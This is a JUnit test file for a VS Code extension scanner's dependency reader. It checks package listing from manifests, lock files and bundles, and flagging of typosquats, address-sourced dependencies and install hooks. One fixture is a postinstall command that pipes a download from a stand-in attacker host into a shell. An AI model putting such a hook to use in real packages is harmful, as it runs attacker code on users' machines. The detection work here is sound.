package dev.vsxray.scanner.dependencies;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Feature;
import dev.vsxray.scanner.model.Feature.Dependency;
import dev.vsxray.scanner.model.Feature.Trait;
import dev.vsxray.scanner.text.FileText;
import dev.vsxray.scanner.text.Observations;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DependencyReaderTest {

    @Test
    void packagesInstalledInTheExtensionAreListed() {
        assertThat(dependencies("node_modules/@a/b/package.json", "{\"name\":\"@a/b\",\"version\":\"1.2.3\"}"))
                .containsExactly("BUNDLED @a/b@1.2.3");
        assertThat(dependencies(
                        "node_modules/x/node_modules/pako/package.json", "{\"name\":\"pako\",\"version\":\"2.1.0\"}"))
                .containsExactly("BUNDLED pako@2.1.0");
        assertThat(dependencies("node_modules/x/dist/esm/package.json", "{\"type\":\"module\"}"))
                .isEmpty();
    }

    @Test
    void packagesNamedByManifestAndLockFilesAreListed() {
        assertThat(
                        dependencies(
                                "package.json",
                                "{\"dependencies\":{\"axios\":\"^1.0.0\",\"pako\":\"2.1.0\"},\"devDependencies\":{\"mocha\":\"1\"}}"))
                .containsExactly("DECLARED axios@", "DECLARED pako@2.1.0");
        assertThat(
                        dependencies(
                                "package-lock.json",
                                "{\"packages\":{\"\":{},\"node_modules/ws\":{\"version\":\"8.1.0\"},\"node_modules/t\":{\"version\":\"1.0.0\",\"dev\":true}}}"))
                .containsExactly("DECLARED ws@8.1.0");
        assertThat(dependencies("yarn.lock", "\"@a/b@^1.0.0\":\n  version \"1.5.0\"\n\nws@8:\n  version \"8.2.0\"\n"))
                .containsExactly("DECLARED @a/b@1.5.0", "DECLARED ws@8.2.0");
        assertThat(dependencies("pnpm-lock.yaml", "packages:\n\n  '@a/b@1.5.0':\n    x: 1\n  /ws/8.3.0:\n    x: 1\n"))
                .containsExactly("DECLARED @a/b@1.5.0", "DECLARED ws@8.3.0");
    }

    @Test
    void packagesInsideBundlesAndSourceMapsAreListed() {
        assertThat(dependencies(
                        "out/a.js",
                        "// node_modules/axios/lib/axios.js\n// node_modules/@a/b/index.js\n// node_modules/.bin/x\n"))
                .containsExactly("BUNDLED axios@", "BUNDLED @a/b@");
        assertThat(dependencies(
                        "out/a.js.map",
                        "{\"sources\":[\"../node_modules/ws/lib/a.js\",\"../node_modules/ws/lib/b.js\"]}"))
                .containsExactly("BUNDLED ws@");
    }

    @Test
    void scriptsThatRunByThemselvesAreToldWithWhatTheyDo() {
        List<Trait> traits = traits(
                "node_modules/x/package.json",
                "{\"name\":\"x\",\"scripts\":{\"postinstall\":\"curl https://evil.invalid/a | sh\",\"test\":\"mocha\"}}");
        assertThat(traits).extracting(Trait::name).contains("lifecycle-script", "command-downloads-and-runs");
        assertThat(traits.get(0).facts()).containsEntry("event", "postinstall").containsEntry("bundled", "true");
    }

    @Test
    void packagesFromAddressesAndUnderOtherNamesAreTold() {
        assertThat(traits("package.json", "{\"dependencies\":{\"a\":\"github:evil/a\",\"b\":\"^1.0.0\"}}"))
                .extracting(Trait::name)
                .containsExactly("dependency-from-address");
        assertThat(traits("node_modules/pako/package.json", "{\"name\":\"paco\"}"))
                .extracting(Trait::name)
                .containsExactly("package-name-mismatch");
    }

    @ParameterizedTest
    @CsvSource({
        "lodahs, lodash",
        "expresss, express",
        "crossenv, cross-env",
        "nodemai1er, nodemailer",
        "keythereum-util, ",
        "etherss, ethers",
        "commandr, commander"
    })
    void lookAlikesOfPopularPackagesAreTold(String name, String popular) {
        assertThat(PopularPackages.resembledBy(name).orElse("")).isEqualTo(popular == null ? "" : popular);
    }

    @ParameterizedTest
    @ValueSource(strings = {"lodash", "preact", "vue", "ws", "my-own-package", "vscode-languageclient", "mysql"})
    void honestNamesAreNot(String name) {
        assertThat(PopularPackages.resembledBy(name)).isEmpty();
    }

    private static List<String> dependencies(String path, String text) {
        return features(path, text).stream()
                .filter(Dependency.class::isInstance)
                .map(Dependency.class::cast)
                .map(found -> found.kind() + " " + found.name() + "@" + found.version())
                .toList();
    }

    private static List<Trait> traits(String path, String text) {
        return features(path, text).stream()
                .filter(Trait.class::isInstance)
                .map(Trait.class::cast)
                .toList();
    }

    private static List<Feature> features(String path, String text) {
        Observations observations = new Observations(path);
        DependencyReader.read(FileText.of(path, text.getBytes(StandardCharsets.UTF_8)), observations);
        return observations.features();
    }
}
